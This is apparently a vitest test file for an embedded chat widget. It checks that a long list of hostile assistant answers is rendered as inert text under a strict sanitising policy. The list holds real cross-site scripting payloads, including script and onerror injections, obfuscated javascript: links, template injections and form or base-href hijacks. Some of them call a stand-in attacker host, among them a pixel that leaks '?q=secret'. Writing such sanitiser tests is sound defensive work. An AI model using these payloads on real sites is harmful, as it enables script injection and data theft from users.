/** Hostile answers under a strict policy: no script, no handler, no foreign request, no link but to safe places. */

import { expect, test } from 'vitest'
import { answer, ask, hostSite, openChat, RECEIPT, send, shown } from './widget-kit.ts'

const { site, arrive } = hostSite()

const E12 =
  "[a](javascript:alert(1)) [b](https://shop.example) <img src=x onerror=alert(1)> <a href='javascript:1'>c</a> [d](data:text/html,x) [e](vbscript:x)"

const ANSWERS = [
  E12,
  '<script>window.pwned = 1</script>',
  '<img src="https://evil.example/x.png" onerror="window.pwned = 1">',
  '<svg onload="window.pwned=1"><animate onbegin=window.pwned=1 attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<style>@import "https://evil.example/x.css";</style><link rel=stylesheet href=https://evil.example/x.css>',
  '![x](https://evil.example/pixel.png?q=secret)',
  '[![x](https://evil.example/a.png)](javascript:window.pwned=1)',
  '[x](JaVaScRiPt:window.pwned=1) [y](java&#115;cript:window.pwned=1) [z](&#x6A;avascript:window.pwned=1)',
  '[x](\u0001javascript:window.pwned=1) [y](javascript\n:window.pwned=1) [z](java\\script:window.pwned=1)',
  '<javascript:window.pwned=1> <data:text/html,x> <vbscript:x>',
  '[x](https://a.example" onmouseover="window.pwned=1) [y](<https://a.example onclick=1>)',
  '[x](https://a.example "title\\" onclick=\\"window.pwned=1")',
  '```"><script>window.pwned=1</script>\ncode\n```',
  '```js onload=window.pwned=1 class=x\n</code></pre><script>window.pwned=1</script>\n```',
  '`</code><img src=x onerror=window.pwned=1>`',
  '| <img src=x onerror=window.pwned=1> | b |\n|---|---|\n| [x](javascript:1) | <script>1</script> |',
  '# <img src=x onerror=window.pwned=1>\n> <script>window.pwned=1</script>\n\n- <svg/onload=window.pwned=1>',
  '&lt;img src=x onerror=window.pwned=1&gt; &#60;script&#62;window.pwned=1&#60;/script&#62;',
  '<!--><img src=x onerror=window.pwned=1>--> <![CDATA[<script>1</script>]]> <?php ?>',
  '{{constructor.constructor("window.pwned=1")()}} <%= window.pwned=1 %> <!--?lit$123$-->',
  '[1] [x](#) [y](?q=1) [z](//evil.example) https://evil.example/"onclick=window.pwned=1',
  '<form action=https://evil.example><input name=q><button>go</button></form><meta http-equiv=refresh content=0;url=//evil.example>',
  '<base href=https://evil.example/><object data=x></object><embed src=x><math><mtext></mtext></math>',
]

test('shows hostile answers as text, streamed byte by byte', async () => {
  const { page, errors, violations } = await arrive()
  const foreign: string[] = []
  page.on('request', (request) => request.url().startsWith(site.origin) || foreign.push(request.url()))
  await openChat(page)
  for (const [index, text] of ANSWERS.entries()) {
    const evil = {
      ...RECEIPT.sections[1],
      title: `"><img src=x onerror=window.pwned=1>${index}`,
      url: 'javascript:window.pwned=1',
    }
    const receipt = { ...RECEIPT, sections: [evil as (typeof RECEIPT.sections)[0], ...RECEIPT.sections.slice(1)] }
    site.proxy = (_, response) =>
      send(response, answer(`${text}\n\n[1] [2]`, { receipt, size: 1 }), { bytes: index < 4 })
    await ask(page, `Question ${index}`)
  }
  const found = await page.evaluate(() => {
    const root = document.querySelector('pinpack-chat')?.shadowRoot as ShadowRoot
    const all = [...root.querySelectorAll('.markdown *, .sources *')]
    return {
      handlers: all.flatMap((node) => node.getAttributeNames()).filter((name) => name.startsWith('on')),
      tags: [...new Set(all.map((node) => node.tagName.toLowerCase()))].sort(),
      schemes: [...new Set([...root.querySelectorAll<HTMLAnchorElement>('a')].map(({ protocol }) => protocol))],
      unsafe: [...root.querySelectorAll<HTMLAnchorElement>('a')].filter(
        ({ origin, rel }) => origin !== location.origin && !/noopener noreferrer/.test(rel),
      ).length,
      styled: root.querySelectorAll('[style]').length,
      pwned: 'pwned' in window,
    }
  })
  expect(found.handlers).toEqual([])
  expect(found.pwned).toBe(false)
  expect(
    found.tags.filter((tag) => /script|img|iframe|svg|style|link|object|embed|form|input|meta|base|math/.test(tag)),
  ).toEqual([])
  expect(found.schemes).toEqual(['https:', 'http:'])
  expect(found.unsafe).toBe(0)
  expect(found.styled).toBe(0)
  expect(foreign).toEqual([])
  expect(errors).toEqual([])
  expect(await violations()).toEqual([])

  const first = page.locator('pinpack-chat .markdown').first()
  expect(await first.locator('a:not(.chip)').evaluateAll((all) => all.map((link) => link.textContent))).toEqual(['b'])
  expect(await shown(first)).toContain("<img src=x onerror=alert(1)> <a href='javascript:1'>c</a>")
})
